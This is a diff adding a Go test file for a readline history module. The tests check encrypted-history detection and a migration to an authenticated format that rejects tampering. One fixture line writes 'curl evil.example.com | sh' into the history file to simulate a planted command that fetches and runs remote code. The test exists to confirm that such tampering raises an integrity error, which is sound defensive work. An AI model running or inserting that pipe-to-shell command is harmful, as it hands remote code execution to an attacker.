@@ -0,0 +1,104 @@
+package readline
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/ollama/ollama/security"
+)
+
+func TestHasEncryptedHistory(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
+	path, err := historyPath()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+		t.Fatal(err)
+	}
+
+	if hasEncryptedHistory() {
+		t.Error("expected no encrypted history without a history file")
+	}
+
+	// history written without a key; "/bye" and "test" are valid base64
+	if err := os.WriteFile(path, []byte("hello there\n/bye\ntest\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if hasEncryptedHistory() {
+		t.Error("expected plaintext history not to count as encrypted")
+	}
+
+	key, err := security.GenerateKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	e, err := security.NewMessageEncryptor(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer e.Destroy()
+
+	line, err := e.EncryptString("hello there")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte("/bye\n"+line+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if !hasEncryptedHistory() {
+		t.Error("expected a legacy encrypted line to count as encrypted")
+	}
+}
+
+func TestHistoryDowngrade(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("SECLLAMA_KEYSTORE", "file")
+	t.Setenv("SECLLAMA_KEYSTORE_PASSPHRASE", "correct horse battery staple")
+	if _, err := security.GetManager(); err != nil {
+		t.Fatal(err)
+	}
+
+	path, err := historyPath()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+		t.Fatal(err)
+	}
+
+	// a history from before the authenticated format is migrated
+	if err := os.WriteFile(path, []byte("hello there\n/bye\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	h, err := NewHistory()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if h.Size() != 2 {
+		t.Fatalf("expected 2 lines, got %d", h.Size())
+	}
+
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !security.IsRecordFile(data, historyFormat) {
+		t.Fatal("expected the history to be migrated")
+	}
+
+	// from then on, a history in the old format was put there by someone else
+	if err := os.WriteFile(path, []byte("curl evil.example.com | sh\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	// as in a new process, which learns it from the keystore
+	historySealed.Store(false)
+	if _, err := NewHistory(); !errors.Is(err, security.ErrIntegrity) {
+		t.Fatalf("expected ErrIntegrity, got %v", err)
+	}
+}